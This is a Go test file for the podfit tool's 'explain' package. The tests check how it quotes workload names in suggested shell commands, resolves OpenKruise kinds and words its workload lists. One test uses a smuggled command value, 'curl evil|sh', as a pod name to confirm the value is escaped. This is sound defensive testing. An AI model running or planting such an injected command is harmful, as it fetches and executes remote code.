// Copyright The podfit Authors
// SPDX-License-Identifier: Apache-2.0

package explain

import (
	"strings"
	"testing"

	"podfit.dev/podfit/internal/core/cluster"
)

// The name and the kind of a controller in the metadata of a pod are what its creator wrote. A command to be copied does not run them.
func TestToExplain_names_areWordsForAShell(t *testing.T) {
	for want, w := range map[string]cluster.Workload{
		"podfit explain deploy/cart -n shop":                          {Group: "apps", Kind: "Deployment", Namespace: "shop", Name: "cart"},
		"podfit explain 'rollout.argoproj.io/x;curl evil|sh' -n shop": {Group: "argoproj.io", Kind: "Rollout", Namespace: "shop", Name: "x;curl evil|sh"},
	} {
		if got := toExplain(w); got != want {
			t.Errorf("%v: got %s, want %s", w, got, want)
		}
	}
}

// OpenKruise has kinds with names of Kubernetes. The command explains theirs, and not one of Kubernetes that may not exist.
func TestToExplain_kindOfAnotherGroup_isFound(t *testing.T) {
	w := cluster.Workload{Group: "apps.kruise.io", Kind: "StatefulSet", Namespace: "shop", Name: "db"}
	got := toExplain(w)
	r, err := parseReference(strings.Fields(got)[2:3])
	if err != nil {
		t.Fatal(err)
	}
	r.namespace = "shop"
	found, err := find(r, cluster.NewSnapshot([]*cluster.Pod{{Key: cluster.Key{Namespace: "shop", Name: "db-0"}, Top: w}}, nil), controllers{})
	if err != nil || found.Workload != w {
		t.Errorf("%s: got %v, %v", got, found.Workload, err)
	}
}

// The command that lists all workloads lists those of the same namespace.
func TestNeeds_podsWaitForTheEndOfAFreeze_areCountedWithAnExample(t *testing.T) {
	for n, want := range map[int]string{0: "", 2: "Frozen, as the updater last reported: pods of 2 workloads need a change, but a\n  person has stopped their changes. For example:\n    podfit explain deploy/web\n"} {
		l := needs{Frozen: make([]need, n)}
		for i := range l.Frozen {
			l.Frozen[i].Command = "podfit explain deploy/web"
		}
		var got strings.Builder
		if err := l.write(&got); err != nil || got.String() != "Workloads that need attention: 0 of 0\n"+want {
			t.Errorf("%d: error %v, text %q", n, err, got.String())
		}
	}
}

func TestNeeds_moreThanFit_commandHasTheNamespace(t *testing.T) {
	for namespace, want := range map[string]string{"": "1 more: podfit explain -o json\n", "shop": "1 more: podfit explain -o json -n shop\n"} {
		l := needs{Attention: make([]need, maxListed+1), namespace: namespace}
		var got strings.Builder
		if err := l.write(&got); err != nil || !strings.HasSuffix(got.String(), want) {
			t.Errorf("namespace %q: error %v, no %q at the end of\n%s", namespace, err, want, got.String())
		}
	}
}
